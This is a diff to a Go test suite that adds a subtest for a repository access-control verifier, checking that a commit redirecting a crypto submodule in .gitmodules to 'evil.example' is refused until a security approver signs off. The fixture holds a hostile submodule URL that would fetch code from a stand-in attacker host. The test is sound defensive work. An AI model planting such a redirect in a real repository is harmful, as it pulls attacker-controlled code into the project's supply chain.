@@ -807,6 +807,22 @@ func depthPaths(t *testing.T, tmpl *ScenarioTemplate) {
 		f.MustVerify(verify.Options{})
 	})
 
+	t.Run("gitmodules that redirect a submodule in the crypto tree", func(t *testing.T) {
+		t.Parallel()
+		// No crypto file changes, but git submodule update --remote
+		// would fetch src/crypto/vendor from the attacker's server.
+		f := setup(t)
+		old := f.Ref(depthMain)
+		m := depthCommit(f, ".gitmodules", "[submodule \"v\"]\n\tpath = src/crypto/vendor\n\turl = https://evil.example/v.git\n")
+		n := refusedThenForged(f, depthMain, old, m, ".gitmodules")
+		p, _ := f.MustFail(verify.Options{}, verify.ErrUnauthorized, depthMain, "rule crypto", "dev1 is not allowed", ".gitmodules")
+		if p.Entry != n {
+			t.Errorf("problem on entry #%d, want #%d", p.Entry, n)
+		}
+		f.Approve("sec1", "main", m, old.String())
+		f.MustVerify(verify.Options{})
+	})
+
 	t.Run("new branch at an older commit of main", func(t *testing.T) {
 		t.Parallel()
 		// Branching off a commit main went through changes nothing the
